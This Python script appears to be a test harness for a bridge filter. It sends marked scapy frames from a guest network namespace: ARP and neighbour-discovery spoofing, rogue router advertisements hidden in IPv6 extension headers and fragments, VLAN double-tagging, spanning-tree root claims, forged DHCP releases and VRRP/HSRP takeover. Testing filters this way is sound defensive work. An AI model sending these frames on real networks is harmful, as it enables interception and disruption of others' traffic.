"""Sends frames made by scapy, in the namespace of a guest.

One JSON order per line on stdin: {"guest", "frames", "perSecond", "cast"}; one JSON answer per line on stdout: {"pid"}.
Each order is a process of its own that sends its frames over and over until it is ended.
"""
import ctypes, json, logging, os, signal, sys, time

logging.getLogger("scapy").setLevel(logging.CRITICAL)
from scapy.all import (ARP, BOOTP, DHCP, DNS, DNSQR, Dot1AD, Dot1Q, Dot3, Ether, GRE, ICMP, ICMPv6EchoRequest,
                       ICMPv6MLReport2, ICMPv6MLQuery, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr,
                       ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, ICMPv6ND_Redirect, IP, IPv6, IPv6ExtHdrDestOpt,
                       IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, LLC, PadN, Raw, RouterAlert, STP,
                       TCP, UDP, raw)

MARK = Raw(b"bridgekeeper-attack")
ALL = "ff:ff:ff:ff:ff:ff"
ALL_NODES_MAC = "33:33:00:00:00:01"


def link_local(mac):
    o = [int(x, 16) for x in mac.split(":")]
    return "fe80::%x:%x:%x:%x" % ((o[0] ^ 2) << 8 | o[1], o[2] << 8 | 0xff, 0xfe00 | o[3], o[4] << 8 | o[5])


def gratuitous(mac, ip, source=None):
    return Ether(src=source or mac, dst=ALL) / ARP(op=2, hwsrc=mac, psrc=ip, hwdst=ALL, pdst=ip) / MARK


def udp(c, me, victim, **ether):
    addresses = {"src": me["mac"], "dst": victim["mac"], **ether}
    return Ether(**addresses) / IP(src=me["ipv4"], dst=victim["ipv4"]) / UDP(sport=4444, dport=4444) / MARK


def advertisement(c, source, target, lladdr):
    return ICMPv6ND_NA(R=0, S=0, O=1, tgt=target) / ICMPv6NDOptDstLLAddr(lladdr=lladdr)


def double_tag(c, me, victim):
    inner = IP(src=me["ipv4"], dst=victim["ipv4"]) / UDP(sport=4444, dport=4444) / MARK
    head = Ether(src=me["mac"], dst=victim["mac"])
    return [head / Dot1Q(vlan=1) / Dot1Q(vlan=20) / inner, head / Dot1AD(vlan=1) / Dot1Q(vlan=20) / inner,
            head / Dot1Q(vlan=0) / inner, head / Dot1Q(vlan=1) / Dot1Q(vlan=20) / ARP(op=2, hwsrc=me["mac"], psrc=c["gateway"]["ipv4"], pdst=victim["ipv4"])]


def arp_fields(c, me, victim):
    g = c["gateway"]
    to = lambda **a: Ether(src=me["mac"], dst=victim["mac"]) / ARP(op=2, pdst=victim["ipv4"], hwdst=victim["mac"], **a) / MARK
    return [
        # An honest frame source and a lie inside, in each field and both operations.
        to(hwsrc=g["mac"], psrc=me["ipv4"]), to(hwsrc=me["mac"], psrc=g["ipv4"]), to(hwsrc="02:00:00:00:00:99", psrc=g["ipv4"]),
        Ether(src=me["mac"], dst=victim["mac"]) / ARP(op=1, hwsrc=me["mac"], psrc=g["ipv4"], pdst=victim["ipv4"]) / MARK,
        Ether(src=me["mac"], dst=ALL) / ARP(op=1, hwsrc=me["mac"], psrc="0.0.0.0", pdst=victim["ipv4"]) / MARK,
        # Reverse and inverse ARP, and lengths that hide the fields from who looks at fixed places.
        Ether(src=me["mac"], dst=victim["mac"]) / ARP(op=4, hwsrc=me["mac"], psrc=g["ipv4"], pdst=victim["ipv4"]) / MARK,
        Ether(src=me["mac"], dst=victim["mac"]) / ARP(op=2, hwtype=6, hwsrc=me["mac"], psrc=g["ipv4"], pdst=victim["ipv4"]) / MARK,
    ]


def nd_hidden(c, me, victim):
    mine, g = me["linkLocal"], c["gateway"]
    head = Ether(src=me["mac"], dst=ALL_NODES_MAC) / IPv6(src=mine, dst="ff02::1", hlim=255)
    na = advertisement(c, me["mac"], g["linkLocal"], me["mac"])
    ra = ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptSrcLLAddr(lladdr=me["mac"]) / ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
    pad = lambda n: IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * n)])
    whole = raw(IPv6(src=mine, dst="ff02::1", hlim=255) / ra)[40:]
    later = lambda n, data, more, nh=58: head / IPv6ExtHdrFragment(nh=nh, offset=n, m=more, id=0x6b6b) / Raw(data)
    chain = raw(pad(4) / ra)
    return [
        head / IPv6ExtHdrHopByHop(options=[RouterAlert()]) / na, head / pad(4) / na, head / pad(4) / pad(4) / ra,
        head / IPv6ExtHdrRouting(addresses=[]) / ra, head / IPv6ExtHdrHopByHop() / pad(100) / ra,
        # One fragment that is whole (RFC 6946), two where the message begins in the second (RFC 7112), and an overlap.
        head / IPv6ExtHdrFragment(nh=58, offset=0, m=0, id=0x6b6b) / na, head / IPv6ExtHdrFragment(nh=60, offset=0, m=0, id=0x6b6b) / pad(4) / ra,
        later(0, chain[:8], 1, 60), later(1, chain[8:], 0, 60),
        later(0, whole[:8], 1),
        # More than one option, or one with the address of another: lengths that a filter at fixed places does not see.
        head / na / ICMPv6NDOptDstLLAddr(lladdr=g["mac"]), head / advertisement(c, me["mac"], mine, g["mac"]),
        Ether(src=me["mac"], dst=victim["mac"]) / IPv6(src=mine, dst=victim["linkLocal"], hlim=255) / ICMPv6ND_NS(tgt=victim["linkLocal"]) / ICMPv6NDOptSrcLLAddr(lladdr=g["mac"]),
        Ether(src=me["mac"], dst=victim["mac"]) / IPv6(src=g["linkLocal"], dst=victim["linkLocal"], hlim=255) / ICMPv6ND_Redirect(tgt=mine, dst="2001:db8::1"),
    ]


def gateway_mac(c, me, victim):
    g = c["gateway"]
    return [
        udp(c, me, victim, src=g["mac"]),
        Ether(src=g["mac"], dst=victim["mac"]) / IP(src=g["ipv4"], dst=victim["ipv4"]) / UDP(sport=4444, dport=4444) / MARK,
        gratuitous(g["mac"], g["ipv4"]), Ether(src=g["mac"], dst=ALL) / IP(src=g["ipv4"], dst="255.255.255.255") / UDP(sport=4444, dport=4444) / MARK,
        # The world's answer, forged.
        Ether(src=g["mac"], dst=victim["mac"]) / IP(src="203.0.113.1", dst=victim["ipv4"]) / TCP(sport=5001, dport=40000, flags="R") / MARK,
        Ether(src=g["mac"], dst=ALL_NODES_MAC) / IPv6(src=g["linkLocal"], dst="ff02::1", hlim=255) / ICMPv6EchoRequest(data=MARK.load),
    ]


def neighbour_mac(c, me, victim):
    other = c["neighbour"]
    return [
        udp(c, other, victim), gratuitous(other["mac"], other["ipv4"]), udp(c, other, victim, dst=ALL),
        Ether(src=other["mac"], dst=c["gateway"]["mac"]) / IP(src=other["ipv4"], dst="203.0.113.1") / UDP(sport=4444, dport=4444) / MARK,
        Ether(src=other["mac"], dst=victim["mac"]) / IPv6(src=other["ipv6"], dst=victim["ipv6"]) / ICMPv6EchoRequest(data=MARK.load),
    ]


def name_storm(c, me, victim):
    ask = DNS(rd=0, qd=DNSQR(qname="bridgekeeper-attack.local", qtype="ANY"))
    return [
        Ether(src=me["mac"], dst="01:00:5e:00:00:fb") / IP(src=me["ipv4"], dst="224.0.0.251", ttl=255) / UDP(sport=5353, dport=5353) / ask,
        Ether(src=me["mac"], dst="01:00:5e:00:00:fc") / IP(src=me["ipv4"], dst="224.0.0.252", ttl=255) / UDP(sport=4444, dport=5355) / ask,
        Ether(src=me["mac"], dst="33:33:00:01:00:03") / IPv6(src=me["linkLocal"], dst="ff02::1:3") / UDP(sport=4444, dport=5355) / ask,
    ]


def spanning_tree(c, me, victim):
    bpdu = lambda **s: LLC(dsap=0x42, ssap=0x42, ctrl=3) / STP(**s) / MARK
    return [
        Dot3(src=me["mac"], dst="01:80:c2:00:00:00") / bpdu(rootid=0, rootmac=me["mac"], bridgeid=0, bridgemac=me["mac"]),
        Dot3(src=me["mac"], dst="01:80:c2:00:00:00") / bpdu(version=2, bpdutype=2, bpduflags=0x3d, rootid=0, rootmac=me["mac"]),
        Dot3(src=me["mac"], dst="01:80:c2:00:00:00") / bpdu(bpdutype=0x80),
        # The same to an ordinary group and to a neighbour, which bridges forward.
        Dot3(src=me["mac"], dst="01:00:0c:cc:cc:cd") / bpdu(rootid=0, rootmac=me["mac"]),
        Dot3(src=me["mac"], dst=victim["mac"]) / bpdu(rootid=0, rootmac=me["mac"]),
    ]


def lldp(c, me, victim):
    mac = bytes(int(x, 16) for x in me["mac"].split(":"))
    unit = bytes([2, 7, 4]) + mac + bytes([4, 7, 3]) + mac + bytes([6, 2, 0, 120, 8, len(MARK.load)]) + MARK.load + bytes([0, 0])
    return [Ether(src=me["mac"], dst=to, type=0x88cc) / Raw(unit)
            for to in ("01:80:c2:00:00:0e", "01:80:c2:00:00:03", "01:80:c2:00:00:00", victim["mac"], ALL)]


def other_types(c, me, victim):
    # Pause frames, PPPoE, EAPOL, MPLS, MACsec, EtherCAT, Wake-on-LAN, loopback, QinQ's old type, FCoE.
    return [Ether(src=me["mac"], dst=to, type=t) / Raw(b"\0" * 30 + MARK.load)
            for t, to in ((0x8808, "01:80:c2:00:00:01"), (0x8863, ALL), (0x888e, "01:80:c2:00:00:03"), (0x8847, victim["mac"]), (0x88e5, victim["mac"]),
                          (0x88a4, ALL), (0x0842, ALL), (0x9000, victim["mac"]), (0x9100, victim["mac"]), (0x8906, victim["mac"]))]


def oversized(c, me, victim):
    big = Raw(MARK.load + b"\0" * 4000)
    return [Ether(src=me["mac"], dst=to) / IP(src=me["ipv4"], dst=victim["ipv4"]) / UDP(sport=4444, dport=4444) / big
            for to in (victim["mac"], c["gateway"]["mac"], ALL)]


def runts(c, me, victim):
    head = lambda t, to=victim["mac"]: Ether(src=me["mac"], dst=to, type=t)
    whole = raw(IP(src=me["ipv4"], dst=victim["ipv4"]) / UDP(sport=4444, dport=4444) / MARK)
    arp = raw(ARP(op=2, hwsrc=me["mac"], psrc=c["gateway"]["ipv4"], pdst=victim["ipv4"]))
    return [head(t) for t in (0x0800, 0x0806, 0x86dd)] + [
        head(0x0800) / Raw(whole[:10]), head(0x0800) / Raw(whole[:16]), head(0x0806) / Raw(arp[:20]), head(0x0806, ALL) / Raw(arp[:8]), head(0x86dd) / Raw(b"\x60" + b"\0" * 20),
        # A header that says less, or more, than there is.
        head(0x0800) / Raw(b"\x41" + whole[1:]), head(0x0800) / Raw(b"\x4f" + whole[1:]), head(0x0800) / Raw(whole[:2] + b"\x00\x08" + whole[4:]),
        head(0x0800) / Raw(b"\x65" + whole[1:]), head(0x86dd) / Raw(whole), head(20) / Raw(b"short"),
    ]


def igmp(c, me, victim):
    def message(kind, group, dst):
        return Ether(src=me["mac"], dst="01:00:5e:%02x:%02x:%02x" % tuple(int(x) & m for x, m in zip(dst.split(".")[1:], (127, 255, 255)))) / \
            IP(src=me["ipv4"], dst=dst, ttl=1, proto=2) / Raw(bytes([kind, 0, 0, 0]) + bytes(int(x) for x in group.split(".")))
    return [message(0x16, "239.%d.%d.%d" % (n % 250, n % 7, n), "239.%d.%d.%d" % (n % 250, n % 7, n)) for n in range(1, 100)]


def igmp_querier(c, me, victim):
    query = Raw(bytes([0x11, 10, 0xee, 0xf5, 0, 0, 0, 0]))
    pim = Raw(bytes([0x20, 0, 0xdf, 0xfd]))
    return [
        Ether(src=me["mac"], dst="01:00:5e:00:00:01") / IP(src=me["ipv4"], dst="224.0.0.1", ttl=1, proto=2) / query,
        Ether(src=me["mac"], dst="01:00:5e:00:00:01") / IP(src="0.0.0.0", dst="224.0.0.1", ttl=1, proto=2) / query,
        Ether(src=me["mac"], dst="01:00:5e:00:00:0d") / IP(src=me["ipv4"], dst="224.0.0.13", ttl=1, proto=103) / pim,
        Ether(src=me["mac"], dst=ALL_NODES_MAC) / IPv6(src=me["linkLocal"], dst="ff02::1", hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert()]) / ICMPv6MLQuery(),
    ]


def dhcp_release(c, me, victim):
    chaddr = bytes(int(x, 16) for x in victim["mac"].split(":"))
    def message(kind, ether, ip):
        return Ether(src=ether, dst=c["gateway"]["mac"]) / IP(src=ip, dst=c["gateway"]["ipv4"]) / UDP(sport=68, dport=67) / \
            BOOTP(chaddr=chaddr, ciaddr=victim["ipv4"], xid=7) / DHCP(options=[("message-type", kind), ("server_id", c["gateway"]["ipv4"]), ("requested_addr", victim["ipv4"]), "end"])
    return [message(kind, ether, ip) for kind in ("release", "decline")
            for ether, ip in ((me["mac"], me["ipv4"]), (me["mac"], victim["ipv4"]), (victim["mac"], victim["ipv4"]), (me["mac"], "0.0.0.0"))]


def ipv4_fragments(c, me, victim):
    whole = raw(UDP(sport=67, dport=68, len=300) / Raw(b"\x02\x01\x06\0" + MARK.load + b"\0" * 280))
    head = lambda **ip: Ether(src=me["mac"], dst=ALL) / IP(src=c["gateway"]["ipv4"], dst="255.255.255.255", proto=17, id=0x6b6b, **ip)
    return [head(flags="MF") / Raw(whole[:8]), head(frag=1) / Raw(whole[8:]), head(flags="MF") / Raw(whole[:64]), head(frag=8) / Raw(whole[64:])]


def virtual_router(c, me, victim):
    vrrp = bytes([0x31, 7, 255, 1, 0, 100, 0, 0]) + bytes(int(x) for x in c["gateway"]["ipv4"].split("."))
    return [Ether(src="00:00:5e:00:01:07", dst="01:00:5e:00:00:12") / IP(src=me["ipv4"], dst="224.0.0.18", ttl=255, proto=112) / Raw(vrrp + MARK.load),
            Ether(src="00:00:0c:07:ac:07", dst="01:00:5e:00:00:02") / IP(src=me["ipv4"], dst="224.0.0.2", ttl=1) / UDP(sport=1985, dport=1985) / MARK]


def garp_honest(c, me, victim):
    return [gratuitous(me["mac"], me["ipv4"])]


def garp_gateway(c, me, victim):
    return [gratuitous(me["mac"], c["gateway"]["ipv4"]), gratuitous(me["mac"], victim["ipv4"]), gratuitous(victim["mac"], c["gateway"]["ipv4"], me["mac"])]


FRAMES = {f.__name__.replace("_", "-"): f for f in (
    double_tag, arp_fields, nd_hidden, gateway_mac, neighbour_mac, name_storm, spanning_tree, lldp, other_types, oversized, runts, igmp,
    igmp_querier, dhcp_release, ipv4_fragments, virtual_router, garp_honest, garp_gateway)}


def attack(order):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(1, signal.SIGKILL)
    with open("/run/netns/" + order["guest"]) as namespace:
        if libc.setns(namespace.fileno(), 0x40000000) != 0:
            raise OSError(ctypes.get_errno(), "setns")
    import socket
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    out.bind(("eth0", 0))
    cast = order["cast"]
    for who in ("attacker", "victim", "neighbour"):
        cast[who]["linkLocal"] = link_local(cast[who]["mac"])
    frames = [raw(frame) for frame in FRAMES[order["frames"]](cast, cast["attacker"], cast["victim"])]
    # Some hundred times a second a handful, rather than each one on its own.
    turn = max(1, order["perSecond"] // 200)
    n, start = 0, time.monotonic()
    while True:
        for _ in range(turn):
            try:
                out.send(frames[n % len(frames)])
            except OSError as error:
                # A full queue, or larger than the link takes: the attacker goes on.
                if error.errno not in (90, 105, 100):
                    raise
            n += 1
        ahead = n / order["perSecond"] - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)


def main():
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    print(json.dumps({"ready": sorted(FRAMES)}), flush=True)
    for line in sys.stdin:
        order = json.loads(line)
        pid = os.fork()
        if pid == 0:
            try:
                attack(order)
            except BaseException as error:
                print(f"scapy {order['frames']}: {error!r}", file=sys.stderr, flush=True)
            os._exit(1)
        print(json.dumps({"pid": pid}), flush=True)


main()
